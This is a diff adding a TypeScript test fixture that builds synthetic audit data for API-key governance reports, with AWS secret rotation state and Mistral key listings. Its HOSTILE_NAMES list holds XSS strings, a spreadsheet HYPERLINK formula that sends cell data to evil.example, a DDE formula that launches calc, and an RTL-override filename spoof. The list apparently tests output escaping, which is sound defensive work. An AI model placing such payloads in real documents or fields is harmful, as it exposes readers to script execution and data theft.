@@ -1,0 +1,100 @@
+import { createAudit } from '../governance/audit/audit.js';
+import { reconcileFindings } from '../governance/audit/reconcile-findings.js';
+import { takeInventory } from '../governance/audit/report/inventory.js';
+import { type Night, nightOf } from '../governance/audit/report/night.js';
+import type { SecretState } from '../governance/keys/rotation.js';
+import type { ListedKey } from '../governance/mistral/mistral.js';
+import { addDays, startOfDay, utcDay } from '../governance/platform/utc-day.js';
+import { createdKeyName } from '../governance/policy/key-name.js';
+import { plannedKeys } from '../governance/policy/planned-keys.js';
+import type { Policy } from '../governance/policy/policy.js';
+
+const AT = new Date('2026-06-30T02:00:00Z');
+const TODAY = utcDay(AT);
+const VERSION_ID = 'aaaaaaaa-0000-4000-8000-000000000001';
+
+/** Names that somebody may give a key at Mistral, to see what becomes of them. */
+const HOSTILE_NAMES = [
+  '<script>alert(document.domain)</script>',
+  '"><img src=x onerror=alert(1)>',
+  '=HYPERLINK("https://evil.example/?"&A1,\'open\')',
+  '@SUM(1+1)*cmd|"/C calc"!A0',
+  '</style></title><svg onload=alert(1)>',
+  `one-word-${'x'.repeat(200)}`,
+  'שלום \u202Egnp.exe 你好 🗝️',
+  '',
+];
+
+/** A night of a large organization, in which there is every kind of key and most kinds of findings. */
+export function largeNight(policy: Policy, otherKeys: number): Night {
+  const planned = plannedKeys(policy);
+  const secrets = new Map(
+    planned.map(({ secretName }, i) => [secretName, secretState(secretName, i)]),
+  );
+  const workspaceNames = new Map(policy.workspaces.map(({ id, name }) => [id, name]));
+  const facts = { planned, secrets, retiring: new Set(['key-1']), workspaceNames };
+  const audit = createAudit(facts, policy.audit, AT);
+  const inventory = takeInventory({ ...facts, workspaces: policy.workspaces }, policy.audit, AT);
+  for (const key of keysOf(policy, otherKeys)) inventory.see(key, audit.see(key));
+  const view = { complete: true, moving: new Set<string>() };
+  const current = audit.findings(view);
+  return nightOf({
+    inventory: inventory.taken(view, current),
+    changes: reconcileFindings({
+      before: current.slice(1, 40).map((finding) => ({
+        finding,
+        openedOn: addDays(TODAY, -3),
+        lastToldOn: addDays(TODAY, -3),
+      })),
+      current: current.filter((_, i) => i % 9 !== 1),
+      isUndecided: () => false,
+      remindEveryDays: 7,
+      now: AT,
+    }),
+    complete: true,
+    rules: policy.audit,
+    problems: ["Mistral's rate limit could not be read: <b>503</b> upstream connect error"],
+    at: AT,
+  });
+}
+
+function secretState(name: string, index: number): SecretState {
+  const rotatedOn = addDays(TODAY, -((index * 17) % 97));
+  return {
+    arn: `arn:aws:secretsmanager:eu-west-1:111122223333:secret:${name}-AbCdEf`,
+    name,
+    rotationEnabled: true,
+    stagesByVersion: { [VERSION_ID]: ['AWSCURRENT'] },
+    createdAt: startOfDay(rotatedOn),
+    lastRotatedAt: startOfDay(rotatedOn),
+    nextRotationAt: startOfDay(addDays(rotatedOn, 90)),
+  };
+}
+
+function* keysOf(policy: Policy, otherKeys: number): Generator<ListedKey> {
+  for (const [index, { key, workspace }] of plannedKeys(policy).entries()) {
+    if (index === 2) continue; // a key that is missing
+    const createdOn = addDays(TODAY, -((index * 17) % 97));
+    yield {
+      id: `key-${index}`,
+      name: createdKeyName(key.name, createdOn, VERSION_ID),
+      workspaceId: workspace.id,
+      workspaceName: workspace.name,
+      createdAt: startOfDay(createdOn),
+      expiresOn: addDays(createdOn, 111),
+      lastUsedOn: TODAY,
+    };
+  }
+  for (let index = 0; index < otherKeys; index += 1) {
+    const createdOn = addDays(TODAY, -((index * 7919) % 420));
+    yield {
+      id: `9a4d7c1e-3b58-4f6a-8f0e-${String(index).padStart(12, '0')}`,
+      name: HOSTILE_NAMES[index] ?? `service ${index}`,
+      workspaceId: policy.workspaces[index % 7]?.id,
+      workspaceName: `workspace ${index % 7}`,
+      createdAt: index % 50 === 11 ? undefined : startOfDay(createdOn),
+      expiresOn: index % 6 === 0 ? undefined : addDays(TODAY, ((index * 13) % 200) - 20),
+      lastUsedOn: index % 5 === 0 ? undefined : addDays(TODAY, -((index * 31) % 120)),
+    };
+  }
+}
